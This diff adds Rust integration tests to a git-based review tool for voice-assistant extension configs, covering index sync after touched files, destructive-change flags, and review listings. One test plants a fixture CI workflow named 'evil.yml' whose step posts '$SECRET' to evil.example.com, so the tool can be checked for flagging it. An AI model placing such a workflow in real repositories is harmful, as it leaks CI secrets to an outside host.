@@ -395,3 +395,127 @@ fn test_log_and_audit_output() {
     t.cekops(&["log", B]).code(2);
     snapshot!(&env, "log-and-audit", t.text());
 }
+
+/// Give a file a new modification time without changing its content (`touch`).
+fn touch(env: &TestEnv, rel: &str) {
+    let f = std::fs::File::options()
+        .write(true)
+        .open(env.path(rel))
+        .unwrap();
+    f.set_modified(std::time::SystemTime::now() + std::time::Duration::from_secs(30))
+        .unwrap();
+}
+
+/// The index and work tree hold exactly HEAD (what `git status` and `git diff --cached` show).
+#[track_caller]
+fn clean_at_head(env: &TestEnv) {
+    assert_eq!(env.git(&["status", "--porcelain"]), "");
+    assert_eq!(env.git(&["diff", "--cached", "--name-only", "HEAD"]), "");
+}
+
+#[test]
+fn test_sync_and_approve_after_a_stat_only_change_keep_the_index_in_step() {
+    let env = TestEnv::new();
+    setup(&env, CONFIG);
+    in_service(&env, A, "알파봇");
+    new_extension(&env, B, "브라보봇");
+    let order = format!("extensions/{A}/interaction-model/intents/OrderIntent.toml");
+    // A changes an existing file and goes live while test/B (branched earlier) is checked out.
+    env.git(&["checkout", "-q", &format!("test/{B}")]);
+    commit_on(
+        &env,
+        &format!("test/{A}"),
+        &order,
+        "utterances = [\"주문해줘\", \"알파봇 시켜줘\", \"주문할래\"]\n",
+        "more",
+    );
+    env.cekops(&["review", "request", A, "-m", "more"]).code(0);
+    as_(&env, &ALICE, &["review", "approve", A]).code(0);
+    // The checked-out copy of A's file is only touched: same content, new mtime.
+    touch(&env, &order);
+    env.cekops(&["sync", B])
+        .code(0)
+        .contains("rebased `test/com.example.bravo`");
+    assert_eq!(rev(&env, "HEAD"), rev(&env, &format!("test/{B}")));
+    clean_at_head(&env);
+    assert!(env.read(&order).contains("주문할래"));
+
+    // approve with `service` checked out and the file it changes only touched
+    env.git(&["checkout", "-q", "service"]);
+    commit_on(
+        &env,
+        &format!("test/{A}"),
+        &order,
+        "utterances = [\"주문해줘\", \"알파봇 시켜줘\", \"주문할게\"]\n",
+        "again",
+    );
+    env.cekops(&["review", "request", A, "-m", "again"]).code(0);
+    touch(&env, &order);
+    as_(&env, &ALICE, &["review", "approve", A])
+        .code(0)
+        .lacks("still holds the previous version")
+        .lacks("warning");
+    assert_eq!(rev(&env, "HEAD"), rev(&env, &format!("test/{A}")));
+    clean_at_head(&env);
+    assert!(env.read(&order).contains("주문할게"));
+}
+
+#[test]
+fn test_approve_shows_what_goes_live_with_destructive_flags() {
+    let env = TestEnv::new();
+    setup(&env, CONFIG);
+    in_service(&env, A, "알파봇");
+    commit_on(
+        &env,
+        &format!("test/{A}"),
+        &format!("extensions/{A}/server.toml"),
+        "endpoint = \"https://other.example.com/clova\"\n",
+        "move the endpoint",
+    );
+    env.cekops(&["review", "request", A, "-m", "new endpoint"])
+        .code(0);
+    let out = as_(&env, &ALICE, &["review", "approve", A]);
+    out.code(0)
+        .contains("service fast-forwarded")
+        .contains("live now: 1 extension changed, 1 change (1 destructive)")
+        .contains("!   ~ endpoint: \"https://ext.example.com/clova\" → \"https://other.example.com/clova\"")
+        .contains("destructive changes are marked with `!`");
+}
+
+#[test]
+fn test_review_show_lists_the_files_a_config_review_brings() {
+    let env = TestEnv::new();
+    setup(&env, CONFIG);
+    in_service(&env, A, "알파봇");
+    env.git(&["checkout", "-q", "-b", "test/ci", "service"]);
+    env.write(
+        ".github/workflows/evil.yml",
+        "on: push\njobs:\n  x:\n    steps:\n      - run: curl -d \"$SECRET\" https://evil.example.com\n",
+    );
+    env.git(&["add", "-A"]);
+    env.git(&["commit", "-q", "-m", "a workflow"]);
+    env.cekops(&["review", "request", "ci", "-m", "a workflow"])
+        .code(0)
+        .contains("config review");
+    // before: `diff` said "no changes" and `review show` listed nothing
+    env.cekops(&["diff", "ci"])
+        .code(2)
+        .contains("!   + .github/workflows/evil.yml (added) — CI workflow");
+    let out = env.cekops(&["review", "show", "ci"]);
+    out.code(0)
+        .contains("what the reviewed commit brings to service:")
+        .contains("!   + .github/workflows/evil.yml (added) — CI workflow: runs in CI with the repository's secrets")
+        .contains("+      - run: curl -d \"$SECRET\" https://evil.example.com");
+    let out = env.cekops(&["review", "show", "ci", "--format", "json"]);
+    out.code(0);
+    let v: serde_json::Value = serde_json::from_str(&out.stdout).unwrap();
+    assert_eq!(
+        v["changes"]["files"][0]["path"],
+        ".github/workflows/evil.yml"
+    );
+    assert_eq!(v["changes"]["files"][0]["kind"], "ci-workflow");
+    let out = as_(&env, &ALICE, &["review", "approve", "ci"]);
+    out.code(0)
+        .contains("live now: 1 file outside the extensions, 1 change; 1 file to read with care")
+        .contains("!   + .github/workflows/evil.yml (added)");
+}
